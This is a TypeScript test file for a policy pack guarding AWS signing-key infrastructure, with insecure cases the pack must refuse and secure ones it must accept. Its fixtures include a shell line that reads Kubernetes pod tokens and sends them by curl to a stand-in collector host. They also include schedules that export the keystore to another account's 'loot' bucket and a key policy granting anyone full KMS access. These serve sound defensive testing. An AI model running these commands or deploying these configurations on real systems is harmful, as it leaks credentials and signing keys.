// Red-team round 16 (last measuring round, fresh eyes) on the Containment Chamber signer stacks (dev, prod,
// pod-identity), AWS side: shapes the earlier rounds did not try. Insecure: AWS services a stack resource drives with a
// role outside the stack (EventBridge Scheduler universal targets calling ssm:SendCommand, ExportTableToPointInTime,
// kms:PutKeyPolicy or dynamodb:PutResourcePolicy; an EventBridge Run Command target; an Incident Manager runbook; a
// Step Functions SDK integration; an IoT rule writing anti-slashing; a DAX cluster serving the keystore), and policy
// shapes (assumed-role session principals, a bare account ID, ReEncryptFrom on a share, the CMK's ViaService pin
// dropped, a cross-region restore, a Kinesis copy shared out). Secure: audit and capacity resources a careful team
// adds (Contributor Insights, Access Analyzer, custom rotation periods, a CloudTrail data-event trail, a Config
// recorder, GuardDuty EKS runtime monitoring, scheduler reminders and KMS tamper alerts to the alert topic).
//
// Insecure variants the whole pack must refuse (the refusing rule and its path message); secure variants it must
// accept. A case the pack still gets wrong is `skip` with a comment "MISS: <why>, <doc>". REDTEAM_ALL=1 runs the
// skipped cases too; REDTEAM_SHOW=1 prints each refusal.
import {
    addStatements,
    assertClean,
    assertRefused,
    find,
    mandatoryOf,
    prop,
    resourceLike,
    Resources,
    runWholePack,
    setProp,
    stackResources,
} from "./support";

const PRIMARY = "111111111111";
const ROLE = "aws:iam/role:Role";
const KEY = "aws:kms/key:Key";
const TABLE = "aws:dynamodb/table:Table";
const OPS_ROLE = `arn:aws:iam::${PRIMARY}:role/ops-automation`;
const PI_CLUSTER = "prod-validators";

const tableArn = (stack: string, t: string) => `arn:aws:dynamodb:eu-west-1:${PRIMARY}:table/custody-${stack}-${t}`;
const signerRole = (r: Resources) => find(r, ROLE, "signer-role");
const share = (r: Resources, i: number) => find(r, KEY, `signer-shares-share-${i}`);
const table = (r: Resources, t: string) => find(r, TABLE, `signer-tables-${t}`);

/** A resource through the provider of the signer's role (the primary account, its region). */
const beside = (r: Resources, type: string, name: string, inputs: Record<string, unknown>) =>
    r.push(resourceLike(signerRole(r), type, name, inputs));

/** A shell script run as root on the cluster's nodes (every pod's projected tokens and the Pod Identity agent). */
const SHELL_ON_NODES = {
    DocumentName: "AWS-RunShellScript",
    Targets: [{ Key: "tag:eks:cluster-name", Values: [PI_CLUSTER] }],
    Parameters: {
        commands: [
            "cat /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token | curl -sd @- https://collector.example.net",
        ],
    },
};

type Case = {
    name: string;
    stack: string;
    preview?: boolean;
    edit: (r: Resources) => void;
    refused?: RegExp;
    policy?: string;
    /** A known miss left for later: "MISS: <why>". */
    skip?: string;
};

const insecure: Case[] = [
    {
        name: "an EventBridge Scheduler schedule whose universal target is ssm:sendCommand (AWS-RunShellScript on the cluster's nodes), run by an existing role of the account",
        stack: "pod-identity",
        edit: r =>
            beside(r, "aws:scheduler/schedule:Schedule", "node-sweep", {
                name: "node-sweep",
                scheduleExpression: "rate(1 hour)",
                flexibleTimeWindow: { mode: "OFF" },
                target: {
                    arn: "arn:aws:scheduler:::aws-sdk:ssm:sendCommand",
                    roleArn: OPS_ROLE,
                    input: JSON.stringify(SHELL_ON_NODES),
                },
            }),
        refused: /node-sweep/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): EventBridge Scheduler's universal target calls ssm:SendCommand with the schedule's role: AWS-RunShellScript runs as root on the cluster's nodes, where the Pod Identity agent hands out the signer's credentials and every projected token lies; the pack refuses the same run as aws:ssm/association (SSM_RUNNERS) but does not read aws:scheduler/schedule targets. EventBridge Scheduler User Guide, "Using universal targets" (arn:aws:scheduler:::aws-sdk:service:apiAction, only read-only prefixes unsupported).
    },
    {
        name: "an EventBridge rule whose target is the AWS-RunShellScript document with runCommandTargets on the cluster's nodes (aws.cloudwatch.EventTarget)",
        stack: "pod-identity",
        edit: r => {
            beside(r, "aws:cloudwatch/eventRule:EventRule", "hourly", {
                name: "hourly",
                scheduleExpression: "rate(1 hour)",
            });
            beside(r, "aws:cloudwatch/eventTarget:EventTarget", "hourly-sweep", {
                rule: "hourly",
                arn: "arn:aws:ssm:eu-west-1::document/AWS-RunShellScript",
                roleArn: OPS_ROLE,
                input: JSON.stringify({ commands: SHELL_ON_NODES.Parameters.commands }),
                runCommandTargets: [{ key: "tag:eks:cluster-name", values: [PI_CLUSTER] }],
            });
        },
        refused: /hourly-sweep/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): an EventBridge rule target whose ARN is an SSM Command document with runCommandTargets runs SendCommand on the tagged nodes with the target's role, the same effect as the refused aws:ssm/association; aws:cloudwatch/eventTarget is not judged (it is refused only inside a template). EventBridge API Reference, Target.RunCommandParameters ("Parameters used when you are using the rule to invoke Amazon EC2 Run Command").
    },
    {
        name: "a DAX cluster of the stack whose service role (outside the stack) reads every table of the account: the keystore served to any principal allowed dax:GetItem",
        stack: "prod",
        edit: r =>
            beside(r, "aws:dax/cluster:Cluster", "keystore-cache", {
                clusterName: "keystore-cache",
                iamRoleArn: `arn:aws:iam::${PRIMARY}:role/dax-to-dynamodb`,
                nodeType: "dax.r5.large",
                replicationFactor: 3,
                serverSideEncryption: { enabled: true },
                clusterEndpointEncryptionType: "TLS",
            }),
        refused: /keystore-cache/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): a DAX cluster serves DynamoDB items under its own service role to anyone allowed dax:* on the cluster; with a role outside the stack (AWS's own example grants read/write on table/* of the account) it exposes the keystore past the table and key policies, and the pack does not judge aws:dax/cluster (dax is only a secret-bearing service in identity policies). DynamoDB Developer Guide, "DAX access control" (Warning: "the use of DAX can subvert those policies").
    },
    {
        name: "share 2's key policy names an assumed-role session (arn:aws:sts::...:assumed-role/ops-automation/alice) for Decrypt",
        stack: "prod",
        edit: r =>
            addStatements(share(r, 2), "policy", {
                Sid: "OpsSession",
                Effect: "Allow",
                Principal: { AWS: `arn:aws:sts::${PRIMARY}:assumed-role/ops-automation/alice` },
                Action: "kms:Decrypt",
                Resource: "*",
            }),
        refused: /ops-automation/,
    },
    {
        name: "share 2's key policy: the signer's statement lists the signer role and the bare account ID 111111111111 (its root: every principal IAM allows)",
        stack: "prod",
        edit: r =>
            addStatements(share(r, 2), "policy", {
                Sid: "SignerAccount",
                Effect: "Allow",
                Principal: { AWS: [`arn:aws:iam::${PRIMARY}:role/custody-prod-signer`, PRIMARY] },
                Action: ["kms:Encrypt", "kms:Decrypt"],
                Resource: "*",
            }),
        refused: /share-2|111111111111/,
    },
    {
        name: "share 3's key policy lets the signer kms:ReEncryptFrom (it can move share 3's ciphertext under any key it may ReEncryptTo, e.g. another account's)",
        stack: "prod",
        edit: r =>
            addStatements(share(r, 3), "policy", {
                Sid: "SignerReEncrypt",
                Effect: "Allow",
                Principal: { AWS: `arn:aws:iam::${PRIMARY}:role/custody-prod-signer` },
                Action: "kms:ReEncryptFrom",
                Resource: "*",
            }),
        refused: /ReEncrypt/i,
    },
    {
        name: "the keystore restored (aws.dynamodb.Table restoreSourceTableArn, resource-level region us-east-1) into another region of the account, encrypted with an AWS owned key",
        stack: "prod",
        edit: r =>
            r.push(
                resourceLike(table(r, "keystore"), TABLE, "keystore-dr", {
                    name: "custody-prod-keystore-dr",
                    region: "us-east-1",
                    restoreSourceTableArn: tableArn("prod", "keystore"),
                    restoreToLatestTime: true,
                    hashKey: "pubkey",
                    attributes: [{ name: "pubkey", type: "S" }],
                    billingMode: "PAY_PER_REQUEST",
                    arn: `arn:aws:dynamodb:us-east-1:${PRIMARY}:table/custody-prod-keystore-dr`,
                }),
            ),
        refused: /keystore-dr/,
    },
    {
        name: "a Kinesis Data Streams consumer: the keystore's change data streamed (KinesisStreamingDestination) to a stream whose resource policy admits another account",
        stack: "prod",
        edit: r => {
            const stream = `arn:aws:kinesis:eu-west-1:${PRIMARY}:stream/keystore-cdc`;
            beside(r, "aws:kinesis/stream:Stream", "keystore-cdc", {
                name: "keystore-cdc",
                arn: stream,
                shardCount: 1,
            });
            beside(r, "aws:dynamodb/kinesisStreamingDestination:KinesisStreamingDestination", "keystore-cdc-dest", {
                streamArn: stream,
                tableName: "custody-prod-keystore",
            });
            beside(r, "aws:kinesis/resourcePolicy:ResourcePolicy", "keystore-cdc-share", {
                resourceArn: stream,
                policy: JSON.stringify({
                    Version: "2012-10-17",
                    Statement: [
                        {
                            Effect: "Allow",
                            Principal: { AWS: "arn:aws:iam::999999999999:root" },
                            Action: ["kinesis:GetRecords", "kinesis:GetShardIterator", "kinesis:DescribeStream"],
                            Resource: stream,
                        },
                    ],
                }),
            });
        },
        refused: /keystore-cdc/,
    },
    {
        name: "the tables' CMK: the DynamoDB-on-behalf statement's kms:ViaService pin dropped (every principal of the account may Decrypt with it directly)",
        stack: "prod",
        edit: r => {
            const k = find(r, KEY, "signer-tables-cmk");
            const d = JSON.parse(prop(k, "policy") as string) as { Statement: Record<string, any>[] };
            delete d.Statement[1].Condition.StringEquals["kms:ViaService"];
            setProp(k, "policy", JSON.stringify(d));
        },
        refused: /signer-tables-cmk|cmk/i,
    },
    {
        name: "an SSM Incident Manager response plan running the stack's own Automation runbook (an aws:runCommand step: AWS-RunShellScript on the cluster's nodes)",
        stack: "pod-identity",
        edit: r => {
            beside(r, "aws:ssm/document:Document", "node-triage-runbook", {
                name: "node-triage-runbook",
                documentType: "Automation",
                documentFormat: "JSON",
                content: JSON.stringify({
                    schemaVersion: "0.3",
                    assumeRole: OPS_ROLE,
                    mainSteps: [{ name: "sweep", action: "aws:runCommand", inputs: SHELL_ON_NODES }],
                }),
            });
            beside(r, "aws:ssmincidents/responsePlan:ResponsePlan", "node-triage", {
                name: "node-triage",
                incidentTemplate: { title: "node", impact: 3 },
                action: {
                    ssmAutomations: [
                        {
                            documentName: "node-triage-runbook",
                            roleArn: OPS_ROLE,
                            targetAccount: "RESPONSE_PLAN_OWNER_ACCOUNT",
                        },
                    ],
                },
            });
        },
        refused: /node-triage/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): an Incident Manager response plan starts its Automation runbook (here the stack's own aws:ssm/document with an aws:runCommand step running AWS-RunShellScript on the nodes) whenever an incident is opened (an alarm, an EventBridge rule or anyone allowed ssm-incidents:StartIncident), with the plan's role; neither the response plan nor the Automation document is judged. Incident Manager API Reference, "SsmAutomation"; Systems Manager User Guide, "aws:runCommand".
    },
    {
        name: "an EventBridge Scheduler universal target dynamodb:exportTableToPointInTime: the keystore exported to another account's bucket (S3BucketOwner), by an existing role",
        stack: "prod",
        edit: r =>
            beside(r, "aws:scheduler/schedule:Schedule", "keystore-export", {
                name: "keystore-export",
                scheduleExpression: "rate(1 day)",
                flexibleTimeWindow: { mode: "OFF" },
                target: {
                    arn: "arn:aws:scheduler:::aws-sdk:dynamodb:exportTableToPointInTime",
                    roleArn: OPS_ROLE,
                    input: JSON.stringify({
                        TableArn: tableArn("prod", "keystore"),
                        S3Bucket: "loot-999999999999",
                        S3BucketOwner: "999999999999",
                    }),
                },
            }),
        refused: /keystore-export/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): the schedule calls DynamoDB ExportTableToPointInTime with S3BucketOwner of another account: a full copy of the keystore outside its account, which the pack refuses as an aws:dynamodb table export or Backup copy action but not as a Scheduler universal target. EventBridge Scheduler User Guide, "Using universal targets"; DynamoDB API Reference, ExportTableToPointInTime (S3BucketOwner).
    },
    {
        name: 'an EventBridge Scheduler universal target kms:putKeyPolicy rewriting share 1\'s key policy (Principal "*" may Decrypt), by an existing role',
        stack: "prod",
        edit: r =>
            beside(r, "aws:scheduler/schedule:Schedule", "share-1-policy", {
                name: "share-1-policy",
                scheduleExpression: "at(2027-01-01T00:00:00)",
                flexibleTimeWindow: { mode: "OFF" },
                target: {
                    arn: "arn:aws:scheduler:::aws-sdk:kms:putKeyPolicy",
                    roleArn: OPS_ROLE,
                    input: JSON.stringify({
                        KeyId: prop(share(r, 1), "arn"),
                        PolicyName: "default",
                        Policy: JSON.stringify({
                            Version: "2012-10-17",
                            Statement: [{ Effect: "Allow", Principal: "*", Action: "kms:*", Resource: "*" }],
                        }),
                    }),
                },
            }),
        refused: /share-1-policy/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): the schedule calls kms:PutKeyPolicy on share 1 (the root delegation lets an account role allowed kms:PutKeyPolicy do it) and replaces the policy the pack judged with one giving "*" kms:*; the same rewrite as an aws:kms/keyPolicy resource is judged. EventBridge Scheduler User Guide, "Using universal targets"; KMS API Reference, PutKeyPolicy.
    },
    {
        name: "an EventBridge Scheduler universal target dynamodb:putResourcePolicy admitting another account to the keystore, by an existing role",
        stack: "prod",
        edit: r =>
            beside(r, "aws:scheduler/schedule:Schedule", "keystore-share", {
                name: "keystore-share",
                scheduleExpression: "at(2027-01-01T00:00:00)",
                flexibleTimeWindow: { mode: "OFF" },
                target: {
                    arn: "arn:aws:scheduler:::aws-sdk:dynamodb:putResourcePolicy",
                    roleArn: OPS_ROLE,
                    input: JSON.stringify({
                        ResourceArn: tableArn("prod", "keystore"),
                        Policy: JSON.stringify({
                            Version: "2012-10-17",
                            Statement: [
                                {
                                    Effect: "Allow",
                                    Principal: { AWS: "arn:aws:iam::999999999999:root" },
                                    Action: "dynamodb:*",
                                    Resource: "*",
                                },
                            ],
                        }),
                    }),
                },
            }),
        refused: /keystore-share/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): the schedule calls DynamoDB PutResourcePolicy on the keystore admitting another account's root, which the pack refuses as an aws:dynamodb/resourcePolicy but does not see as a Scheduler universal target. EventBridge Scheduler User Guide, "Using universal targets"; DynamoDB API Reference, PutResourcePolicy.
    },
    {
        name: "an IoT topic rule whose DynamoDBv2 action puts every message of a topic into anti-slashing (an existing role): any device allowed iot:Publish erases or forges slashing records",
        stack: "prod",
        edit: r =>
            beside(r, "aws:iot/topicRule:TopicRule", "slashing-feed", {
                name: "slashing_feed",
                enabled: true,
                sql: "SELECT * FROM 'validators/slashing'",
                sqlVersion: "2016-03-23",
                dynamodbv2s: [{ roleArn: OPS_ROLE, putItem: { tableName: "custody-prod-anti-slashing" } }],
            }),
        refused: /slashing-feed/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): an IoT rule's dynamoDBv2 action PutItems every message of the topic into anti-slashing with the rule's role (AWS IoT Developer Guide, "DynamoDBv2": "writes all or part of an MQTT message to an Amazon DynamoDB table"): any device or principal allowed iot:Publish on the topic overwrites slashing records, a write path the custody model does not name; aws:iot/topicRule is not judged.
    },
    {
        name: "a Step Functions state machine (an existing role) whose Task is the SDK integration aws-sdk:dynamodb:exportTableToPointInTime of the keystore into another account's bucket",
        stack: "prod",
        edit: r =>
            beside(r, "aws:sfn/stateMachine:StateMachine", "keystore-export-flow", {
                name: "keystore-export-flow",
                roleArn: OPS_ROLE,
                definition: JSON.stringify({
                    StartAt: "Export",
                    States: {
                        Export: {
                            Type: "Task",
                            Resource: "arn:aws:states:::aws-sdk:dynamodb:exportTableToPointInTime",
                            Parameters: {
                                TableArn: tableArn("prod", "keystore"),
                                S3Bucket: "loot-999999999999",
                                S3BucketOwner: "999999999999",
                            },
                            End: true,
                        },
                    },
                }),
            }),
        refused: /keystore-export-flow/,
        // Was a MISS (fixed this session, engine/opaque.ts passedOutsideRoles): a Step Functions AWS SDK service integration (arn:aws:states:::aws-sdk:dynamodb:exportTableToPointInTime) exports the keystore to another account's bucket with the state machine's role; the pack judges a state machine's role (stack roles) but not what its definition calls with a role outside the stack. Step Functions Developer Guide, "Integrating services with AWS SDK integrations"; DynamoDB API Reference, ExportTableToPointInTime.
    },
];

const secure: Case[] = [
    {
        name: "a weekly EventBridge Scheduler reminder publishing to the custody alert topic (templated sns:Publish target) with a stack role allowed only sns:Publish on that topic",
        stack: "prod",
        edit: r => {
            const topic = `arn:aws:sns:eu-west-1:${PRIMARY}:custody-prod-alerts`;
            beside(r, ROLE, "rotation-reminder", {
                name: "rotation-reminder",
                arn: `arn:aws:iam::${PRIMARY}:role/rotation-reminder`,
                assumeRolePolicy: JSON.stringify({
                    Version: "2012-10-17",
                    Statement: [
                        {
                            Effect: "Allow",
                            Principal: { Service: "scheduler.amazonaws.com" },
                            Action: "sts:AssumeRole",
                            Condition: { StringEquals: { "aws:SourceAccount": PRIMARY } },
                        },
                    ],
                }),
                inlinePolicies: [
                    {
                        name: "publish",
                        policy: JSON.stringify({
                            Version: "2012-10-17",
                            Statement: [{ Effect: "Allow", Action: "sns:Publish", Resource: topic }],
                        }),
                    },
                ],
            });
            beside(r, "aws:scheduler/schedule:Schedule", "rotation-reminder", {
                name: "rotation-reminder",
                scheduleExpression: "cron(0 9 ? * MON *)",
                flexibleTimeWindow: { mode: "OFF" },
                target: {
                    arn: topic,
                    roleArn: `arn:aws:iam::${PRIMARY}:role/rotation-reminder`,
                    input: JSON.stringify({ message: "review custody key rotation" }),
                },
            });
        },
    },
    {
        name: "an EventBridge rule on the shares' ScheduleKeyDeletion/DisableKey/PutKeyPolicy CloudTrail events notifying the account's alert topic (aws.cloudwatch.EventRule + EventTarget, no role)",
        stack: "prod",
        edit: r => {
            beside(r, "aws:cloudwatch/eventRule:EventRule", "kms-tamper", {
                name: "kms-tamper",
                eventPattern: JSON.stringify({
                    source: ["aws.kms"],
                    "detail-type": ["AWS API Call via CloudTrail"],
                    detail: { eventName: ["ScheduleKeyDeletion", "DisableKey", "PutKeyPolicy"] },
                }),
            });
            beside(r, "aws:cloudwatch/eventTarget:EventTarget", "kms-tamper-alert", {
                rule: "kms-tamper",
                arn: `arn:aws:sns:eu-west-1:${PRIMARY}:custody-prod-alerts`,
            });
        },
    },
    {
        name: "CloudWatch Contributor Insights on the three tables (aws.dynamodb.ContributorInsights)",
        stack: "prod",
        edit: r => {
            for (const t of ["keystore", "anti-slashing", "signer-state"])
                beside(r, "aws:dynamodb/contributorInsights:ContributorInsights", `${t}-insights`, {
                    tableName: `custody-prod-${t}`,
                });
        },
    },
    {
        name: "an IAM Access Analyzer of the account (external access) and an unused-access analyzer",
        stack: "prod",
        edit: r => {
            beside(r, "aws:accessanalyzer/analyzer:Analyzer", "custody-external", {
                analyzerName: "custody-external",
                type: "ACCOUNT",
            });
            beside(r, "aws:accessanalyzer/analyzer:Analyzer", "custody-unused", {
                analyzerName: "custody-unused",
                type: "ACCOUNT_UNUSED_ACCESS",
                configuration: { unusedAccess: { unusedAccessAge: 90 } },
            });
        },
    },
    {
        name: "each share key rotated every 90 days (rotationPeriodInDays) instead of the yearly default",
        stack: "prod",
        edit: r => {
            for (const i of [1, 2, 3]) setProp(share(r, i), "rotationPeriodInDays", 90);
        },
    },
    {
        name: "a CloudTrail trail of the custody data events (advanced selectors on the three tables' DynamoDB data events) into a bucket of the account",
        stack: "prod",
        edit: r =>
            beside(r, "aws:cloudtrail/trail:Trail", "custody-data-events", {
                name: "custody-data-events",
                s3BucketName: "custody-prod-audit-111111111111",
                enableLogFileValidation: true,
                isMultiRegionTrail: true,
                advancedEventSelectors: [
                    {
                        name: "custody tables",
                        fieldSelectors: [
                            { field: "eventCategory", equals: ["Data"] },
                            { field: "resources.type", equals: ["AWS::DynamoDB::Table"] },
                            {
                                field: "resources.ARN",
                                equals: ["keystore", "anti-slashing", "signer-state"].map(t => tableArn("prod", t)),
                            },
                        ],
                    },
                ],
            }),
    },
    {
        name: "an AWS Config recorder of DynamoDB tables and KMS keys through Config's service-linked role, delivering to a bucket of the account",
        stack: "prod",
        edit: r => {
            beside(r, "aws:cfg/recorder:Recorder", "custody", {
                name: "custody",
                roleArn: `arn:aws:iam::${PRIMARY}:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig`,
                recordingGroup: { allSupported: false, resourceTypes: ["AWS::DynamoDB::Table", "AWS::KMS::Key"] },
            });
            beside(r, "aws:cfg/deliveryChannel:DeliveryChannel", "custody", {
                name: "custody",
                s3BucketName: "custody-prod-config-111111111111",
            });
        },
    },
    {
        name: "GuardDuty with EKS audit-log and runtime monitoring (AWS manages its own aws-guardduty-agent add-on)",
        stack: "pod-identity",
        edit: r => {
            beside(r, "aws:guardduty/detector:Detector", "custody", { enable: true, id: "d-123" });
            beside(r, "aws:guardduty/detectorFeature:DetectorFeature", "eks-audit", {
                detectorId: "d-123",
                name: "EKS_AUDIT_LOGS",
                status: "ENABLED",
            });
            beside(r, "aws:guardduty/detectorFeature:DetectorFeature", "runtime", {
                detectorId: "d-123",
                name: "RUNTIME_MONITORING",
                status: "ENABLED",
                additionalConfigurations: [{ name: "EKS_ADDON_MANAGEMENT", status: "ENABLED" }],
            });
        },
    },
    {
        name: "on-demand throughput caps on the keystore (onDemandThroughput max read/write units)",
        stack: "prod",
        edit: r =>
            setProp(table(r, "keystore"), "onDemandThroughput", {
                maxReadRequestUnits: 4000,
                maxWriteRequestUnits: 1000,
            }),
    },
    {
        name: "the signer's keystore statement also pinned to the cluster VPC (StringEquals aws:SourceVpc), pods reaching DynamoDB through the gateway endpoint",
        stack: "prod",
        edit: r => {
            const p = find(r, "aws:iam/rolePolicy:RolePolicy", "signer-role-access");
            const d = JSON.parse(prop(p, "policy") as string) as { Statement: Record<string, unknown>[] };
            const s = d.Statement.find(x => x.Sid === "DynamoDBKeySource");
            if (s) s.Condition = { StringEquals: { "aws:SourceVpc": "vpc-0a1b2c3d4e5f60718" } };
            setProp(p, "policy", JSON.stringify(d));
        },
    },
    {
        name: "the Pod Identity association retagged (a team label), its session tags kept",
        stack: "pod-identity",
        edit: r =>
            setProp(
                find(r, "aws:eks/podIdentityAssociation:PodIdentityAssociation", "signer-sa-pod-identity"),
                "tags",
                { "custody:stack": "custody-infra/pod-identity", team: "validators" },
            ),
    },
];

const skipMisses = process.env.REDTEAM_ALL !== "1";
const label = (c: Case) => `${c.stack}${c.preview ? " (first preview)" : ""}: ${c.name}`;

describe("allowlist: red-team round 16 on the signer stacks (AWS side)", () => {
    for (const c of insecure) {
        (c.skip && skipMisses ? it.skip : it)(`refuses: ${label(c)}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            const ds = await runWholePack(c.stack, r);
            if (process.env.REDTEAM_SHOW === "1")
                for (const d of mandatoryOf(ds)) console.log(`      ${d.policyName}: ${d.message.slice(0, 600)}`);
            assertRefused(ds, c.refused ?? /^$/, c.policy);
        });
    }
    for (const c of secure) {
        (c.skip && skipMisses ? it.skip : it)(`accepts: ${label(c)}`, async () => {
            const r = await stackResources(c.stack, c.preview ?? false);
            c.edit(r);
            const ds = await runWholePack(c.stack, r);
            if (process.env.REDTEAM_SHOW === "1")
                for (const d of mandatoryOf(ds)) console.log(`      ${d.policyName}: ${d.message.slice(0, 600)}`);
            assertClean(ds);
        });
    }
});
